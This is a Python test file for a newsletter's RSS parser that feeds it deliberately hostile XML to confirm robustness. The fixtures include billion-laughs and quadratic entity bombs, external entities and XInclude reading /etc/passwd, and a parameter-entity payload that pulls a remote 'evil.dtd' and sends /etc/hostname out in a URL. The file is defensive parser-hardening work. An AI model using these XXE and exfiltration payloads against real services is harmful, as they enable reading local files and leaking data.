"""Feeds that are made to hurt a parser: bombs of entities, files of ours, sizes, depth, and markup that is broken."""

from __future__ import annotations

from newsletter.intake import FAILED
from newsletter.sources.feed import MAX_ENTRIES, MAX_TITLE
from tests.hostile.publisher import (
    FEED,
    FIRST,
    GOOD,
    OTHER_HOST,
    SECOND,
    Behaviour,
    Outcome,
    good,
    item,
    rss,
    served,
)

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BILLION = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{_LAUGHS}]>'
_QUADRATIC = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>'
_FILE = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_WEB = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "http://{OTHER_HOST}/loot">]>'
_DTD = f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://{OTHER_HOST}/evil.dtd">'
_PARAMETER = (
    f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % x SYSTEM "http://{OTHER_HOST}/evil.dtd"> %x;'
    '<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY s SYSTEM \'http://127.0.0.1/?%f;\'>"> %e;]>'
)
_LOOP = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
_INCLUDE = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
_ATTRIBUTES = " ".join(f"a{n}='1'" for n in range(100_000))
_LIMIT = "took more than 8 seconds of processor time|took more than 10 seconds|bytes of memory|MemoryError"


def _feed(name: str, feed: str, *stored: str, notes: str = "", slow: bool = False, within: float = 10.0) -> Behaviour:
    return Behaviour(name, {FEED: served(feed)}, stored, notes=notes, check=_only_the_feed, slow=slow, within=within)


def _broken(name: str, between: str) -> Behaviour:
    """A feed whose second item is broken: the ones before and after it are good."""
    return _feed(name, rss(good(0), between, good(2)), *_around(between))


def _around(between: str) -> tuple[str, ...]:
    return (FIRST, *((SECOND,) if SECOND in between else ()), GOOD[2])


def _only_the_feed(outcome: Outcome) -> None:
    """Nothing was asked of anyone else, and nothing of this machine came in."""
    assert set(outcome.asked) <= {FEED, "/p/2"}
    assert not any("root:" in piece.text + piece.title for piece in outcome.stored)


_PLAIN_ITEM = "<item><title>One of very many: {n}</title></item>"
_MANY = "".join(_PLAIN_ITEM.format(n=n) for n in range(60_000))

BEHAVIOURS = (
    _feed("sends a billion laughs", rss(good(0), item("&l9;", 2), head=_BILLION), FIRST, "&l9;"),
    _feed(
        "sends a quadratic entity bomb",
        rss(good(0), item("&a;" * 20_000, 2), head=_QUADRATIC),
        FIRST,
        ("&a;" * 334)[:MAX_TITLE],
    ),
    _feed("names entities in a circle", rss(good(0), item("&a;", 2), head=_LOOP), FIRST, "&a;"),
    _feed("asks for a file of ours by an entity", rss(good(0), item("&x;", 2), head=_FILE), FIRST, "Untitled"),
    _feed("asks for an address by an entity", rss(good(0), item("&x;", 2), head=_WEB), FIRST, "Untitled"),
    _feed("has its DTD elsewhere", rss(good(0), good(1), head=_DTD), FIRST, SECOND),
    _feed("asks for files and addresses by parameter entities", rss(good(0), head=_PARAMETER), FIRST),
    _feed("includes a file of ours by XInclude", rss(good(0), good(1, extra=_INCLUDE)), FIRST, SECOND),
    _feed("has 100,000 attributes on an item", rss(good(0), f"<item {_ATTRIBUTES}/>", good(2)), FIRST, GOOD[2]),
    _feed(
        "nests 100,000 elements in an item",
        rss(good(0), good(1, extra="<a>" * 100_000 + "</a>" * 100_000)),
        FIRST,
        SECOND,
        slow=True,
    ),
    _feed(
        "nests 100,000 items",
        rss(good(0), "<item>" * 100_000),
        FIRST,
        notes="98000 entries in the middle|without title",
    ),
    _feed(
        "nests 5,000 elements of HTML in a text",
        rss(good(0), item(SECOND, 2, text="<div>" * 5_000 + "Deep.")),
        FIRST,
        SECOND,
        notes="page: ",
    ),
    _feed("has an author of 16 kB", rss(good(0), good(1, extra=f"<author>{'a' * 16_000}</author>")), FIRST, SECOND),
    _feed(
        "has an author of 16 kB of brackets",
        rss(good(0), good(1, extra=f"<author>{'(' * 16_000}</author>")),
        FIRST,
        SECOND,
    ),
    _feed(
        "has an author of 16 kB of addresses",
        rss(good(0), good(1, extra=f"<author>{'a@' * 8_000}</author>")),
        FIRST,
        SECOND,
    ),
    _feed(
        "has an author of 16 kB of spaces",
        rss(good(0), good(1, extra=f"<author>a{' ' * 16_000}b</author>")),
        FIRST,
        SECOND,
    ),
    _feed("has 5,000 authors", rss(good(0), good(1, extra="<author>A Name</author>" * 5_000)), FIRST, SECOND),
    _feed("has 20,000 categories", rss(good(0), good(1, extra="<category>c</category>" * 20_000)), FIRST, SECOND),
    _feed(
        "has a title of 1 MB",
        rss(good(0), item("Word " * 200_000, 2), good(2)),
        FIRST,
        ("Word " * 200_000)[:MAX_TITLE].rstrip(),
        GOOD[2],
    ),
    _feed(
        "has a title of 1 MB of open brackets",
        rss(good(0), item("&lt;" * 250_000, 2), good(2)),
        FIRST,
        "<" * MAX_TITLE,
        GOOD[2],
    ),
    _feed(
        "has a link of 1 MB", rss(good(0), good(1, link="http://pages.example.com/" + "a" * 1_000_000)), FIRST, SECOND
    ),
    _feed("has an id of 1 MB", rss(good(0), good(1, guid="a" * 1_000_000)), FIRST, SECOND),
    _feed("has an attribute of 1 MB", rss(good(0), good(1, extra=f"<x a='{'a' * 1_000_000}'/>")), FIRST, SECOND),
    _feed(
        "has 20,000 namespaces",
        rss(good(0), good(1, extra="".join(f"<x xmlns:n{n}='u:{n}'/>" for n in range(20_000)))),
        FIRST,
        SECOND,
    ),
    _feed("has 100,000 comments", rss(good(0), "<!-- -->" * 100_000, good(2)), FIRST, GOOD[2]),
    _feed("has 100,000 processing instructions", rss(good(0), "<?a b?>" * 100_000, good(2)), FIRST, GOOD[2]),
    _feed("has a doctype of 1 MB", rss(good(0), head=f"<!DOCTYPE rss [{'<!-- x -->' * 100_000}]>"), FIRST),
    _broken("closes an item that was never opened", "</item>"),
    _broken("opens an item twice", "<item>" + good(1)),
    _broken("never closes a title", "<item><title>Never closed</item>"),
    _broken("crosses its elements", good(1, extra="<b><i>x</b></i>")),
    _broken("gives an attribute twice", good(1, extra="<x a='1' a='2'/>")),
    _broken("uses an entity that nobody defined", good(1, extra="<description>a &nowhere; b</description>")),
    _broken("uses a namespace that nobody declared", good(1, extra="<dc:creator>A Name</dc:creator>")),
    _broken("refers to characters that do not exist", good(1, extra="<x>&#0; &#xD800; &#99999999999;</x>")),
    _broken("leaves an ampersand as it is", good(1, extra="<category>R & D</category>")),
    _broken("puts an angle bracket into text", good(1, extra="<description>a < b and c > d</description>")),
    _broken("puts control characters into text", good(1, extra="<description>a\x01\x0b\x1bb</description>")),
    _broken("leaves attributes without quotes", good(1, extra="<enclosure url=http://a length=1>")),
    _feed(
        "never closes CDATA in the first of three items",
        rss("<item><title><![CDATA[Open</title></item>", good(1), good(2)),
        *GOOD[1:],
    ),
    _feed("never closes a comment between its items", rss(good(0), "<!-- open", good(1), good(2)), *GOOD),
    _feed(
        "breaks its markup and has old items in a comment",
        rss("<b>", good(0), f"<!-- {good(1)} -->", good(2)),
        FIRST,
        GOOD[2],
    ),
    _feed(
        "breaks its markup and tells of feeds in CDATA",
        rss(
            "<b>",
            good(0, extra="<x><![CDATA[<item><title>a</title></item><item><title>b</title></item>]]></x>"),
            good(2),
        ),
        FIRST,
        GOOD[2],
    ),
    _broken("has an item with neither title nor link", "<item><description>Nameless</description></item>"),
    _broken("has an empty item", "<item/>"),
    _broken("ends CDATA too early", good(1, extra="<description><![CDATA[a ]]> b ]]></description>")),
    _feed("never closes CDATA", rss(good(0), good(1), "<item><title><![CDATA[Open"), FIRST, SECOND),
    _feed("never closes a comment", rss(good(0), good(1), "<!-- open " + "x" * 100_000), FIRST, SECOND),
    _feed(
        "has its items before and after the channel", rss(good(0)).replace("</rss>", f"{good(1)}</rss>"), FIRST, SECOND
    ),
    _feed("writes a declaration in the middle", rss(good(0), '<?xml version="1.0"?>', good(1)), FIRST, SECOND),
    _feed("begins with blank lines and a warning", "\n\nWarning: deprecated\n" + rss(good(0), good(1)), FIRST, SECOND),
    _feed("has the doctype of a web page", rss(good(0), good(1), head="<!DOCTYPE html>"), FIRST, SECOND),
    _feed("says it is XML 1.1", rss(good(0), good(1), head='<?xml version="1.1"?>'), FIRST, SECOND),
    _feed("holds two feeds", rss(good(0)) + rss(good(1)), FIRST, SECOND),
    Behaviour(
        "sends 60,000 entries",
        {FEED: served(rss(_MANY))},
        tuple(f"One of very many: {n}" for n in range(MAX_ENTRIES)),
        notes="58000 entries in the middle, of 60000|1500 entries older than the newest 500",
        check=_only_the_feed,
        slow=True,
    ),
    _feed(
        "sends 30,000 items without end tags",
        rss(*(f"<item><title>Never closed: {n}</title>" for n in range(30_000))),
        *(f"Never closed: {n}" for n in range(MAX_ENTRIES)),
        notes="27999 entries in the middle, of 29999|1501 entries older than the newest 500",
        slow=True,
    ),
    Behaviour(
        "sends just as many entries as we can read",
        {FEED: served(rss(*(item(f"The finding of laboratory {n}", n) for n in range(MAX_ENTRIES + 20))))},
        tuple(f"The finding of laboratory {n}" for n in range(MAX_ENTRIES)),
        notes="20 entries older than the newest 500 left out",
        within=60,
        slow=True,
    ),
    Behaviour(
        "sends 5 MB of attributes",
        {FEED: served(rss(good(0), f"<item {' '.join(f'a{n}=1' for n in range(400_000))}/>"))},
        (FIRST,),
        within=25,
        slow=True,
    ),
    Behaviour("is nothing but a doctype", {FEED: served(_BILLION)}, (), FAILED, "neither RSS nor Atom|damaged"),
    Behaviour(
        "is nothing but open elements",
        {FEED: served("<rss>" + "<a>" * 100_000)},
        (),
        FAILED,
        "damaged|neither",
        slow=True,
    ),
)
